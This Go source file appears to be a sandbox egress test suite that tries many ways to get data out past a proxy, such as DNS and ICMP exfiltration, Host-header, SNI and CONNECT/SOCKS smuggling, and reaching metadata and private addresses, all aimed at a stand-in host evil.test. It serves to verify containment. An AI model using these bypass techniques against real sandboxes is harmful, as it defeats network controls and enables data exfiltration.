package verify

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"syscall"
	"time"

	"github.com/belljar-dev/belljar"
	"golang.org/x/sys/unix"
)

const netWait = 20 * time.Second // no row waits for it on purpose

// silence is how long nothing must come where no answer may be the answer. On a busy
// machine the control run's answers take a while, too.
const silence = 2 * time.Second

// dial connects; name resolution is the sandbox's.
func (a *attacker) dial(network, at string) (net.Conn, error) {
	d := net.Dialer{Timeout: netWait, Resolver: &net.Resolver{PreferGo: true}}
	c, err := d.DialContext(a.ctx, network, at)
	if err == nil {
		_ = c.SetDeadline(time.Now().Add(netWait))
	}
	return c, err
}

// tell sends an HTTP request that names the row, and says what came back.
func (a *attacker) tell(id, at, host string) (bool, string) {
	c, err := a.dial("tcp", at)
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	return request(c, "GET /"+word(id)+" HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
}

// request writes one and reads the answer's first line.
func request(c net.Conn, text string) (bool, string) {
	if _, err := io.WriteString(c, text); err != nil {
		return false, err.Error()
	}
	b := bufio.NewReader(io.LimitReader(c, 4096))
	line, err := b.ReadString('\n')
	if err != nil && line == "" {
		return false, err.Error()
	}
	if !strings.Contains(line, " 200 ") {
		rest, _ := io.ReadAll(b) // why not
		return false, line + string(rest)
	}
	return true, strings.TrimSpace(line)
}

// reach is an attack that connects to at and makes a request.
func reach(id, what, layer, at, host string) row {
	return row{id: id, name: what, layer: layer, req: belljar.ReqNetwork, judge: judgement{hit: true},
		do: func(a *attacker) (bool, string) { return a.tell(id, at, host) }}
}

// networkRows try to get out without asking the proxy.
func networkRows() []row {
	return []row{
		reach("network/raw-ip", "TCP to an address of the internet", "", addrEvil+":80", "evil.test"),
		reach("network/metadata", "the metadata address", "", addrMetadata+":80", "meta"),
		reach("network/private", "an address of the company's network", "", addrPrivate+":80", "private"),
		reach("network/host-address", "the host's own address", "", fmt.Sprintf("%s:%d", addrHost, portLocal), "host"),
		reach("network/loopback", "a service on the host's loopback", "", fmt.Sprintf("127.0.0.1:%d", portLocal), "localhost"),
		reach("network/ipv6", "TCP over IPv6", "", "["+addrEvil6+"]:80", "evil"),
		reach("network/name", "a name that is not allowed", layerDecide, "evil.test:80", "evil.test"),
		reach("network/trailing-dot", "a name that is not allowed, with a dot at its end", layerDecide, "evil.test.:80", "evil.test."),
		reach("network/subdomain", "a name below an allowed one", layerDecide, "www.evil.test:80", "www.evil.test"),
		reach("network/allowed-port", "an allowed name on a port that is not", layerDecide, "allowed.test:22", "allowed.test"),
		reach("network/allowed-8080", "an allowed name on another web port", layerDecide, "allowed.test:8080", "allowed.test"),
		reach("network/guard-private", "an allowed name that resolves to a private address", layerGuard, "private.test:80", "private.test"),
		reach("network/guard-metadata", "an allowed name that resolves to the metadata address", layerGuard, "meta.test:80", "meta.test"),
		reach("network/guard-loopback", "an allowed name that resolves to the loopback", layerGuard, fmt.Sprintf("loop.test:%d", portLocal), "loop.test"),
		reach("network/guard-self", "an allowed name that resolves to the host's own address", layerGuard, fmt.Sprintf("self.test:%d", portLocal), "self.test"),
		{id: "network/host-header", name: "an allowed address, another Host", layer: layerTarget, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			return a.tell("network/host-header", "allowed.test:80", "evil.test")
		}},
		{id: "network/second-request", name: "a second request on the connection for another Host", layer: layerTarget, judge: judgement{hit: true}, do: secondRequest},
		{id: "network/sni", name: "an allowed address, another name in TLS", layer: layerTarget, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			c, err := a.dial("tcp", "allowed.test:443")
			if err != nil {
				return false, err.Error()
			}
			defer c.Close()
			err = tlsClient(c, word("network/sni")+".evil.test").Handshake()
			return err == nil, fmt.Sprint(err)
		}},
		{id: "network/not-tls", name: "something else than TLS on the port of TLS", layer: layerTarget, do: notTLS},
		{id: "network/udp", name: "UDP to an address of the internet", req: belljar.ReqNetwork, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			return a.udp(addrEvil+":7", []byte(word("network/udp")))
		}},
		{id: "network/udp6", name: "UDP over IPv6", req: belljar.ReqNetwork, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			return a.udp("["+addrEvil6+"]:7", []byte(word("network/udp6")))
		}},
		{id: "network/dns-direct", name: "a DNS question to a server of the attacker", req: belljar.ReqNetwork, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			return a.lookup(word("network/dns-direct")+".evil.test", addrEvil+":53")
		}},
		{id: "network/dns-exfiltration", name: "a secret as a label of a domain of the attacker", layer: layerDecide, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			return a.lookup(word("network/dns-exfiltration")+".evil.test", "")
		}},
		{id: "network/dns-allowed-child", name: "a secret as a label below an allowed name", layer: layerDecide, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			return a.lookup(word("network/dns-allowed-child")+".allowed.test", "")
		}},
		{id: "network/icmp", name: "a secret in a ping", req: belljar.ReqNetwork, judge: judgement{hit: true}, do: ping},
	}
}

func secondRequest(a *attacker) (bool, string) {
	c, err := a.dial("tcp", "allowed.test:80")
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	b := bufio.NewReader(c)
	if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"); err != nil {
		return false, err.Error()
	}
	r, err := http.ReadResponse(b, nil)
	if err != nil {
		return false, err.Error()
	}
	_, _ = io.Copy(io.Discard, r.Body)
	return request(c, "GET /"+word("network/second-request")+" HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
}

// notTLS speaks HTTP to the port of TLS; that somebody answers as a TLS server
// does means that it got there.
func notTLS(a *attacker) (bool, string) {
	c, err := a.dial("tcp", "allowed.test:443")
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	if _, err := io.WriteString(c, "GET / HTTP/1.0\r\n\r\n"); err != nil {
		return false, err.Error()
	}
	b, err := io.ReadAll(io.LimitReader(c, 4096))
	return strings.Contains(string(b), "HTTPS server"), fmt.Sprintf("%.200q %v", b, err)
}

func (a *attacker) udp(at string, b []byte) (bool, string) {
	c, err := a.dial("udp", at)
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	if _, err := c.Write(b); err != nil {
		return false, err.Error()
	}
	_ = c.SetDeadline(time.Now().Add(silence))
	n, err := c.Read(make([]byte, 64))
	return n > 0, fmt.Sprint(err)
}

// lookup asks server, or the one that is configured.
func (a *attacker) lookup(name, server string) (bool, string) {
	r := &net.Resolver{PreferGo: true}
	if server != "" {
		r.Dial = func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "udp", server)
		}
	}
	ctx, cancel := context.WithTimeout(a.ctx, silence)
	defer cancel()
	got, err := r.LookupHost(ctx, name)
	return len(got) > 0, fmt.Sprint(got, err)
}

// ping sends an echo request that carries the row's name.
func ping(*attacker) (bool, string) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
	if err != nil {
		return false, "socket: " + err.Error()
	}
	defer unix.Close(fd)
	b := append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, word("network/icmp")...)
	binary.BigEndian.PutUint16(b[2:], checksum(b))
	to := &unix.SockaddrInet4{Addr: [4]byte(net.ParseIP(addrEvil).To4())}
	if err := unix.Sendto(fd, b, 0, to); err != nil {
		return false, "send: " + err.Error()
	}
	tv := unix.NsecToTimeval(int64(silence))
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	n, err := unix.Read(fd, make([]byte, 128))
	return n > 0, fmt.Sprint(err)
}

func checksum(b []byte) uint16 {
	var s uint32
	for i := 0; i < len(b); i += 2 {
		s += uint32(b[i]) << 8
		if i+1 < len(b) {
			s += uint32(b[i+1])
		}
	}
	for s>>16 != 0 {
		s = s&0xffff + s>>16
	}
	return ^uint16(s)
}

// proxyRows try to talk the proxy into it. Outside, an open proxy is at its address.
func proxyRows() []row {
	connect := func(name, what, layer, authority string, then func(c net.Conn) (bool, string)) row {
		id := "proxy/" + name
		return row{id: id, name: what, layer: layer, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			return a.connect(strings.ReplaceAll(authority, "ROW", word(id)), then)
		}}
	}
	return []row{
		connect("connect-name", "CONNECT to a name that is not allowed", layerDecide, "ROW.evil.test:443", nil),
		connect("connect-ip", "CONNECT to an address", layerDecide, addrEvil+":80", tellOn("proxy/connect-ip")),
		connect("connect-port", "CONNECT to an allowed name on port 22", layerDecide, "allowed.test:22", tellOn("proxy/connect-port")),
		connect("connect-decimal", "CONNECT to a decimal address", layerDecide, "1572395074:80", tellOn("proxy/connect-decimal")),
		connect("connect-loopback", "CONNECT to [::1] and 0.0.0.0", layerDecide, "0.0.0.0:80", tellOn("proxy/connect-loopback")),
		connect("connect-userinfo", "CONNECT with an allowed name as user", layerDecide, "allowed.test@ROW.evil.test:443", nil),
		connect("connect-nul", "CONNECT with %00 in the name", layerDecide, "allowed.test%00.ROW.evil.test:443", nil),
		connect("connect-sni", "CONNECT to an allowed name, another one in TLS", layerTarget, "allowed.test:443", func(c net.Conn) (bool, string) {
			err := tlsClient(c, word("proxy/connect-sni")+".evil.test").Handshake()
			return err == nil, fmt.Sprint(err)
		}),
		connect("connect-host", "CONNECT to an allowed name, another Host", layerTarget, "allowed.test:80", func(c net.Conn) (bool, string) {
			return request(c, "GET /"+word("proxy/connect-host")+" HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
		}),
		{id: "proxy/host-header", name: "a URL of an allowed name, another Host", layer: layerTarget, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			c, err := a.dial("tcp", fmt.Sprintf("%s:%d", addrProxy, portProxy))
			if err != nil {
				return false, err.Error()
			}
			defer c.Close()
			return request(c, "GET http://allowed.test/x HTTP/1.1\r\nHost: "+word("proxy/host-header")+".evil.test\r\nConnection: close\r\n\r\n")
		}},
		{id: "proxy/socks-name", name: "SOCKS to a name that is not allowed", layer: layerDecide, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			return a.socks(word("proxy/socks-name")+".evil.test", 443)
		}},
		{id: "proxy/socks-nul", name: "SOCKS with a NUL in the name", layer: layerDecide, judge: judgement{hit: true}, do: func(a *attacker) (bool, string) {
			return a.socks(word("proxy/socks-nul")+".evil.test\x00.allowed.test", 443)
		}},
		{id: "proxy/socks-port", name: "SOCKS to port 22 of an allowed name", layer: layerDecide, judge: judgement{}, do: func(a *attacker) (bool, string) {
			return a.socks("allowed.test", 22)
		}},
	}
}

func tellOn(id string) func(net.Conn) (bool, string) {
	return func(c net.Conn) (bool, string) {
		return request(c, "GET /"+word(id)+" HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
	}
}

// connect asks the proxy for a tunnel and uses it.
func (a *attacker) connect(authority string, then func(net.Conn) (bool, string)) (bool, string) {
	c, err := a.dial("tcp", fmt.Sprintf("%s:%d", addrProxy, portProxy))
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	ok, what := request(c, "CONNECT "+authority+" HTTP/1.1\r\nHost: "+authority+"\r\n\r\n")
	if !ok || then == nil {
		return ok, what
	}
	// The answer was read with a buffer; a tunnel's other side speaks second.
	time.Sleep(50 * time.Millisecond)
	return then(c)
}

func (a *attacker) socks(name string, port int) (bool, string) {
	c, err := a.dial("tcp", fmt.Sprintf("%s:%d", addrProxy, portProxy))
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	b := append([]byte{5, 1, 0, 5, 1, 0, 3, byte(len(name))}, name...)
	if _, err := c.Write(append(b, byte(port>>8), byte(port))); err != nil {
		return false, err.Error()
	}
	answer := make([]byte, 4)
	if _, err := io.ReadFull(c, answer); err != nil {
		return false, err.Error()
	}
	return answer[3] == 0, fmt.Sprint(answer, errnoOf(err))
}

func errnoOf(err error) string {
	var e syscall.Errno
	if errors.As(err, &e) {
		return e.Error()
	}
	return ""
}

// tlsClient speaks TLS and believes every certificate: what is tried is the way, not
// who is at its end.
func tlsClient(c net.Conn, name string) *tls.Conn {
	return tls.Client(c, &tls.Config{InsecureSkipVerify: true, ServerName: name})
}
